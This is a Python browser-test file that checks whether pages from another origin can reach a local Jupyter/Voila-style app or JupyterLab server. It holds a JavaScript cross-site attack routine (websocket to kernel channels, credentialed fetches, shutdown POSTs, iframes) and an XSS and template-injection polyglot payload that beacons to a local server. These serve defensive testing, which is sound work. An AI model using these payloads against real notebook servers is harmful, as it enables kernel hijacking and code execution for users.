"""A page of somebody else in the same browser gets nothing of the servers of `dominoperf app` and `dominoperf lab`."""

import contextlib
import json
import threading
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlencode

import pytest
from browsing import serving
from conftest import CHROMIUM, write_notebook

needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine: no page is opened")

# Every way by which a page elsewhere could reach the server whose address it knows, even the id of a kernel.
ATTACK = """async ([root, hostile, kernel]) => {
  const socket = new WebSocket(`${root.replace("http", "ws")}/api/kernels/${kernel}/channels`);
  const opened = await new Promise(tell => { socket.onopen = () => tell(true); socket.onclose = () => tell(false); });
  const read = await fetch(hostile, {credentials: "include"}).then(() => true, () => false);
  const how = {mode: "no-cors", credentials: "include"};
  for (const [path, method] of [["/", "GET"], [`/voila/api/shutdown/${kernel}`, "POST"], ["/api/kernels", "POST"]])
    await fetch(root + path, {...how, method}).catch(() => null);
  const frame = document.body.appendChild(document.createElement("iframe"));
  await new Promise(tell => { frame.onload = tell; frame.src = hostile; });
  return {opened, read};
}"""


@contextlib.contextmanager
def stranger():
    """Serve pages of another origin; whoever asks for ``/ran`` ran a script of theirs: give port and those counted."""
    ran = []

    class Page(BaseHTTPRequestHandler):
        def do_GET(self):
            if self.path.startswith("/ran"):
                ran.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript" if self.path.startswith("/ran") else "text/html")
            self.end_headers()
            self.wfile.write(b"" if self.path.startswith("/ran") else b"<!DOCTYPE html><title>elsewhere</title>")

        def log_message(self, *_):
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Page) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port, ran
        server.shutdown()


def evil(port):
    """A text that runs, wherever it stands in a page as it is: as a tag, in an attribute, in a script."""
    there = f"http://127.0.0.1:{port}/ran"
    asks = f"fetch('{there}?NUMBER',{{mode:'no-cors'}})"
    tags = (f"<script>{asks}</script>", f"<script src={there}?file></script>", f'<img src=x onerror="{asks}">')
    return f"\"'`;{asks};//</script>{''.join(tags)}{{{{ 7*7 }}}}"


def begun(folder):
    """How many kernels the server has started, by what it says."""
    return (folder / "said.txt").read_text().count("Kernel started")


@needs_chromium
def test_a_page_elsewhere_reaches_nothing_of_the_app(tmp_path, browser):
    """Not by a link, a frame, a script or a websocket, though the user is logged in; nor does a word of an address run.

    The stranger is of another site (localhost) or of another port of the same (127.0.0.1), where SameSite does nothing.
    """
    shown = "import ipywidgets\nnumber = ipywidgets.IntText(1)\nlabel = ipywidgets.Label('1')"
    linked = "number.observe(lambda change: setattr(label, 'value', str(change['new'] * 7)), 'value')"
    ends = "ipywidgets.VBox([number, label])"
    path = write_notebook(
        tmp_path / "n.ipynb", f"{shown}\n{linked}\n{ends}", "print(name)", parameters="name: str = ''"
    )
    with stranger() as (port, ran), serving(tmp_path, "app", str(path)) as address:
        root, text, context = address.partition("/?")[0], evil(port), browser.new_context()
        own = context.new_page()
        own.goto(address)
        own.locator(".widget-label", has_text="1").wait_for()
        kernel = json.loads(own.locator("#jupyter-config-data").text_content())["kernelId"]

        typed = context.new_page()  # by the user, deceived: the worst that an address can be
        typed.goto(f"{root}/?{urlencode({'name': text})}")
        typed.locator(".jp-OutputArea-output", has_text="7*7").wait_for()
        for unknown in ("theme", "template", "voila-theme", text):
            typed.goto(f"{root}/?{urlencode({unknown: text, 'name': text})}")
            typed.get_by_text("Not as asked").wait_for()
            assert ran == []
        typed.goto(f"{root}/{text}?theme={text}")
        typed.close()

        before, hostile = begun(tmp_path), f"{root}/?{urlencode({'theme': text, 'name': text})}"
        for host in ("localhost", "127.0.0.1"):
            page = context.new_page()
            page.goto(f"http://{host}:{port}/")
            assert page.evaluate(ATTACK, [root, hostile, kernel]) == {"opened": False, "read": False}
            assert root not in page.frames[1].url
            page.evaluate("to => { location = to }", hostile)
            page.wait_for_url("**/login?**")
            assert page.locator("#password_input").count() == 1
            page.close()
        assert begun(tmp_path) == before
        assert ran == []

        own.locator("input[type=number]").fill("6")
        own.locator("input[type=number]").press("Enter")
        own.locator(".widget-label", has_text="42").wait_for()  # its kernel is there, and answers
        assert {cookie["sameSite"] for cookie in context.cookies(root)} == {"Strict"}


@needs_chromium
def test_a_page_elsewhere_reaches_nothing_of_jupyterlab(tmp_path, browser):
    """Nor does a word of an address run in it; whoever brings the token is let in from anywhere, as from a terminal."""
    with stranger() as (port, ran), serving(tmp_path, "lab", "work") as address:
        root, token, text = address.partition("/lab")[0], address.partition("token=")[2], evil(port)
        asked = urllib.request.Request(
            f"{root}/api/kernels", method="POST", headers={"Authorization": f"token {token}"}
        )
        with urllib.request.urlopen(asked) as answer:
            kernel = json.load(answer)["id"]
        context = browser.new_context()
        page = context.new_page()
        page.goto(f"http://localhost:{port}/")
        page.evaluate("to => { location = to }", address)
        page.wait_for_function("window.jupyterapp")
        for place in (
            f"/lab/tree/{text}?{urlencode({'theme': text})}",
            f"/lab?{urlencode({'reset': text})}",
            f"/{text}",
        ):
            page.goto(root + place)
        for host in ("localhost", "127.0.0.1"):
            page.goto(f"http://{host}:{port}/")
            assert page.evaluate(ATTACK, [root, f"{root}/lab", kernel]) == {"opened": False, "read": False}
            page.evaluate("to => { location = to }", f"{root}/lab")
            page.wait_for_url("**/login?**")
        assert ran == []
        assert {cookie["sameSite"] for cookie in context.cookies(root)} == {"Strict"}
        with urllib.request.urlopen(f"{root}/api/kernels?token={token}") as answer:
            assert [each["id"] for each in json.load(answer)] == [kernel]
